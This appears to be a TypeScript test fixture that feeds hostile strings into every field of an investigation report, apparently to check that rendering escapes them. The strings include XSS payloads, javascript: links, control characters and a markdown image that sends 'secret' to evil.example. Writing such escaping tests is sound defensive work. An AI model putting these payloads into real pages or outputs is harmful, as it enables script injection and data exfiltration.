import type { CaseResult } from "../../../src/investigate/case-result.ts";
import { buildCase, buildExplanation, buildHypothesis, buildMetric, buildTable } from "./build-case.ts";

/** Texts that would do something if they were taken for markup. */
export const attacks = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "![](http://evil.example/?q=secret)",
  "[click](javascript:alert(1))",
  "<javascript:alert(1)>",
  "http://evil.example/x",
  "www.evil.example",
  "someone@evil.example",
  "a | b | c",
  "`code` ``more``",
  "line\n# heading\n\n- item",
  "***bold*** __bold__ ~~gone~~",
  "[E1]",
  "&lt;b&gt; &#60;",
  "```\nmermaid",
  "end\\",
  "\u202eright to left\u0000\u001b[31m",
  "$x$",
  "--> %%{init: {}}%%",
];

/** A case in which every text that comes from outside is this one. */
export function hostileCase(text: string): CaseResult {
  const base = buildCase();
  const title = text.slice(0, 100);
  const explanation = buildExplanation({
    title,
    segment: { [text]: text },
    reasoning: text,
    causal_story: text,
    grade: text,
    controls: [{ name: text, before: 1, after: 1, relative: 0 }],
    scope: text,
    contribution: { absolute: -12_430, share: 1, interval: null },
  });
  return buildCase({
    metric: buildMetric({ text, label: text, table: text, notes: [text], unit: text }),
    question: { ...base.question, definition: text },
    data: {
      tables: [
        {
          ...buildTable(text, 10, [text]),
          file: text.replace(/[/\\]/g, "_"),
          notes: [text],
          rejected: { count: 1, lines: [{ line: 1, reason: text, text }] },
        },
      ],
      relationships: [],
      joins: [{ from: text, to: text, by: text, proof: text, evidence: ["E4"] }],
    },
    quality: [{ check: text, severity: "warning", message: text, evidence: ["E5"] }],
    change: { ...base.change, method: text },
    explanations: [explanation],
    remainder: { absolute: 0, share: 0, about: text, evidence: ["E7"] },
    hypotheses: [{ ...buildHypothesis("hyp_001", title, "CONFIRMED"), expected_pattern: text }],
    ruledOut: [{ hypothesis_id: "hyp_002", title: text, expected_pattern: text, seen: text, evidence: ["E9"] }],
    suspicion: { hypothesis_id: "hyp_001", text, verdict: "holds", seen: text, evidence: ["E9"] },
    search: { ...base.search, dimensions: [text] },
    nextSteps: [text],
    mind: text,
  });
}
